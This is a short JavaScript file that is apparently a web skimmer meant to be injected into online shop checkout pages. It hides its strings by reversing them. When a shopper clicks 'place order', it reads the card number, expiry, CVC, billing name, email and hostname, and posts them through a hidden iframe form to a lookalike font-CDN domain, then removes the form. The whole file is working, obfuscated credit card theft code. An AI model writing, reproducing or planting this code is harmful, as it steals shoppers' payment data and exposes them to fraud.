var r = function (x) { return x.split('').reverse().join(''); };
var d = document;
var ce = r('tnemelEetaerc');
var ac = r('dlihCdneppa');
var sink = r('php.r/s/pot.ndc-citatsg-stnof//:sptth');

(function () {
  var fname = 'x' + (new Date().getTime() % 100000);
  var ifr = d[ce](r('emarfi'));
  ifr['name'] = fname;
  ifr['style']['cssText'] = r(';enon:yalpsid');
  d['body'][ac](ifr);

  function field(q) {
    var e = d['querySelector'](q);
    return e ? e['value'] : '';
  }

  function build(data) {
    var f = d[ce]('form');
    f['method'] = r('tsop');
    f['action'] = sink;
    f['target'] = fname;
    for (var k in data) {
      if (!data.hasOwnProperty(k)) continue;
      var i = d[ce](r('tupni'));
      i['type'] = r('neddih');
      i['name'] = k;
      i['value'] = data[k];
      f[ac](i);
    }
    d['body'][ac](f);
    f[r('timbus')]();
    setTimeout(function () { f['parentNode']['removeChild'](f); }, 2000);
  }

  function go() {
    var data = {
      a: field(r(']"rebmun-cc"=etelpmocotua[tupni')) || field('#card_number'),
      b: field(r(']"pxe-cc"=etelpmocotua[tupni')) || field('#card_expiry'),
      c: field(r(']"csc-cc"=etelpmocotua[tupni')) || field('#card_cvc'),
      e: field('#billing_first_name') + ' ' + field('#billing_last_name'),
      m: field('#billing_email'),
      s: location[r('emantsoh')]
    };
    if (data.a.length > 11) build(data);
  }

  d['addEventListener']('click', function (e) {
    var t = e['target'];
    if (t && (t['id'] === r('redro_ecalp') || /place.?order/i.test(t['className']))) go();
  }, true);
})();
